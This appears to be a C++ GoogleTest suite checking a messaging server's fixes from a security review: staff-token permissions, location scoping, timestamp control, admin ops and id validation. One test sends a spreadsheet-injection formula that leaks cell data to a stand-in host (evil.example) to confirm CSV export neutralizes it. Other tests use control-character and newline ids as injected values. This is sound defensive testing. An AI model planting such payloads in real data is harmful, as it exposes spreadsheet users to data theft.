// The security review's findings over HTTP (issue 12: H1, H2, M2, M3, M7): what a staff token
// may send and ask, that staff cannot set `at`, and that automation sends (campaign and
// notification) run on the admin ops route.
#include <gtest/gtest.h>

#include "server_fixture.hpp"

namespace msgcenter::server::testing {
namespace {

class ServerSecurity : public ServerTest {
 protected:
  /// A token for a staff id the business does not have (tokens may be issued ahead).
  std::string ghost_token() {
    auto r = admin("POST", "/v1/admin/businesses/spa/staff/ghost/tokens");
    EXPECT_EQ(r.status, 200u) << r.body;
    return r.j().value("token", "");
  }
};

TEST_F(ServerSecurity, CampaignSend_WithATokenOfNoStaffMember_Is403_AndStoresNothing) {
  auto ghost = ghost_token();
  auto r =
      call("POST", "/v1/messages",
           json{{"phone", "+12025550199"}, {"body", "hi"}, {"kind", "campaign"}}.dump(), ghost);
  EXPECT_EQ(r.status, 403u) << r.body;
  EXPECT_EQ(r.code(), "permission_denied");
  auto viewer = put_staff("spa", "vic", json::array({"view_messages"}));
  auto v = call("POST", "/v1/messages",
                json{{"phone", "+12025550199"}, {"body", "hi"}, {"kind", "notification"}}.dump(),
                viewer);
  EXPECT_EQ(v.status, 403u) << v.body;
  auto csv = call("GET", "/v1/export.csv", "", ana);
  EXPECT_EQ(csv.body.find("+12025550199"), std::string::npos) << csv.body;
}

TEST_F(ServerSecurity, NotificationIntoAConversationOfAnotherLocation_Is404) {
  ASSERT_EQ(inbound("downtown only", "SM1").status, 200u);
  auto conv =
      call("GET", "/v1/conversations", "", ana).j()["rows"][0]["conversation"].get<std::string>();
  auto r = call("POST", "/v1/messages",
                json{{"conversation", conv}, {"body", "x"}, {"kind", "notification"}}.dump(), leo);
  EXPECT_EQ(r.status, 404u) << r.body;
  // By phone, from the default (downtown) number: leo may use only uptown.
  auto by_phone = call("POST", "/v1/messages",
                       json{{"phone", kClient}, {"body", "x"}, {"kind", "campaign"}}.dump(), leo);
  EXPECT_EQ(by_phone.status, 403u) << by_phone.body;
  auto msgs = call("GET", "/v1/conversations/" + conv + "/messages?mark_read=false", "", ana);
  EXPECT_EQ(msgs.j()["messages"].size(), 1u) << msgs.body;
}

TEST_F(ServerSecurity, Consent_WithATokenOfNoStaffMember_Is403) {
  auto ghost = ghost_token();
  auto req = call("POST", "/v1/consent/requests", json{{"phone", "+447700900123"}}.dump(), ghost);
  EXPECT_EQ(req.status, 403u) << req.body;
  auto get = call("GET", "/v1/consent?phone=%2B12025550142", "", ghost);
  EXPECT_EQ(get.status, 403u) << get.body;
  auto viewer = put_staff("spa", "vic", json::array({"view_messages"}));
  EXPECT_EQ(
      call("POST", "/v1/consent/requests", json{{"phone", "+12025550143"}}.dump(), viewer).status,
      403u)
      << "a request texts the phone: it needs send_sms";
  EXPECT_EQ(call("GET", "/v1/consent?phone=%2B12025550143", "", viewer).j()["state"], "unknown");
}

TEST_F(ServerSecurity, AdminOps_SendsCampaignsAndNotifications_ButNoManualSends) {
  auto campaign = admin("POST", "/v1/admin/ops",
                        {{"op", "send"},
                         {"business", "spa"},
                         {"phone", kClient},
                         {"kind", "campaign"},
                         {"body", "Spa week: 2 for 1"}});
  ASSERT_EQ(campaign.status, 200u) << campaign.body;
  EXPECT_EQ(campaign.j()["message"]["kind"], "campaign");
  EXPECT_TRUE(campaign.j()["message"]["author"].is_null());
  const std::string conv = campaign.j()["conversation"];
  auto note = admin("POST", "/v1/admin/ops",
                    {{"op", "send"},
                     {"business", "spa"},
                     {"conversation", conv},
                     {"kind", "notification"},
                     {"body", "Reminder: tomorrow 10am"}});
  EXPECT_EQ(note.status, 200u) << note.body;
  auto manual = admin("POST", "/v1/admin/ops",
                      {{"op", "send"}, {"business", "spa"}, {"phone", kClient}, {"body", "hi"}});
  EXPECT_EQ(manual.status, 403u) << manual.body;
  auto as = admin(
      "POST", "/v1/admin/ops",
      {{"op", "send"}, {"business", "spa"}, {"as", "ana"}, {"phone", kClient}, {"body", "hi"}});
  EXPECT_EQ(as.status, 400u) << "the admin key does not act as a staff member: " << as.body;
  auto msgs = call("GET", "/v1/conversations/" + conv + "/messages?mark_read=false", "", ana);
  EXPECT_EQ(msgs.j()["messages"].size(), 2u) << msgs.body;
}

TEST_F(ServerSecurity, StaffCannotSetAt_InABody_AQuery_OrAnOpsEnvelope) {
  auto body = call("POST", "/v1/messages",
                   json{{"phone", kClient}, {"body", "x"}, {"at", 4102444800000}}.dump(), ana);
  EXPECT_EQ(body.status, 400u) << body.body;
  EXPECT_EQ(body.code(), "invalid_argument");
  auto query = call("GET", "/v1/conversations?at=4102444800000", "", ana);
  EXPECT_EQ(query.status, 400u) << query.body;
  auto ops = call("POST", "/v1/ops", R"({"op":"inbox.badge","at":4102444800000})", ana);
  EXPECT_EQ(ops.status, 400u) << ops.body;
  EXPECT_EQ(call("GET", "/v1/conversations", "", ana).j()["rows"].size(), 0u)
      << "the refused send stored nothing";
  // The admin path is trusted with it (imports, replays).
  auto in = admin(
      "POST", "/v1/admin/ops",
      {{"op", "inbound"}, {"from", kClient}, {"to", kSpaNumber}, {"body", "old"}, {"at", 1000}});
  ASSERT_EQ(in.status, 200u) << in.body;
  EXPECT_EQ(in.j()["message"]["at"], 1000);
}

TEST_F(ServerSecurity, ContactHistoryAndConversationExport_HonourLocations) {
  admin("PUT", "/v1/admin/businesses/spa/contacts/emma",
        {{"first_name", "Emma"}, {"phones", {kClient}}});
  ASSERT_EQ(inbound("downtown secret", "SM1").status, 200u);
  auto history = call("GET", "/v1/contacts/emma/history", "", leo);
  ASSERT_EQ(history.status, 200u) << history.body;
  EXPECT_EQ(history.j()["messages"].size(), 0u) << history.body;
  EXPECT_EQ(call("GET", "/v1/contacts/emma/history", "", ana).j()["messages"].size(), 1u);
  auto auditor =
      put_staff("spa", "aud", json::array({"view_messages", "export"}), json::array({"uptown"}));
  auto conv =
      call("GET", "/v1/conversations", "", ana).j()["rows"][0]["conversation"].get<std::string>();
  auto one = call("GET", "/v1/conversations/" + conv + "/export.csv", "", auditor);
  EXPECT_EQ(one.status, 404u) << one.body;
  EXPECT_EQ(one.body.find("downtown secret"), std::string::npos);
}

TEST_F(ServerSecurity, Export_FormulaInAnInboundText_IsNeutralized) {
  ASSERT_EQ(inbound("=HYPERLINK(\"https://evil.example/?\"&B2,\"open\")", "SM1").status, 200u);
  auto csv = call("GET", "/v1/export.csv", "", ana);
  ASSERT_EQ(csv.status, 200u);
  EXPECT_NE(csv.body.find(",\"'=HYPERLINK("), std::string::npos) << csv.body;
}

// Security review L7: ids are checked at the edge, in paths (after percent-decoding) and in
// bodies, and a refused one changes nothing.
TEST_F(ServerSecurity, Ids_WithControlCharactersOrTooLong_Are400_AndChangeNothing) {
  auto nul = call("GET", "/v1/contacts/a%00b/history", "", ana);
  EXPECT_EQ(nul.status, 400u) << nul.body;
  EXPECT_EQ(nul.code(), "invalid_argument");
  auto bad_utf8 = admin("PUT", "/v1/admin/businesses/spa/templates/x%FF", {{"body", "hi"}});
  EXPECT_EQ(bad_utf8.status, 400u) << bad_utf8.body;
  auto newline = admin("PUT", "/v1/admin/businesses/spa/staff/eve%0Aroot",
                       {{"name", "Eve"}, {"rights", {"view_messages"}}});
  EXPECT_EQ(newline.status, 400u) << newline.body;
  auto in_body = call("POST", "/v1/admin/ops",
                      json{{"op", "staff.put"},
                           {"business", "spa"},
                           {"staff", std::string(129, 'x')},
                           {"name", "Long"}}
                          .dump(),
                      kAdminKey);
  EXPECT_EQ(in_body.status, 400u) << in_body.body;
  auto location = call("POST", "/v1/admin/ops",
                       json{{"op", "staff.put"},
                            {"business", "spa"},
                            {"staff", "eve"},
                            {"locations", {"down\u0007town"}}}
                           .dump(),
                       kAdminKey);
  EXPECT_EQ(location.status, 400u) << location.body;
  // Nothing was created: eve has no staff entry, so a token of hers is refused.
  auto eve = admin("POST", "/v1/admin/businesses/spa/staff/eve/tokens").j().value("token", "");
  EXPECT_EQ(call("GET", "/v1/badge", "", eve).status, 403u);
}

}  // namespace
}  // namespace msgcenter::server::testing
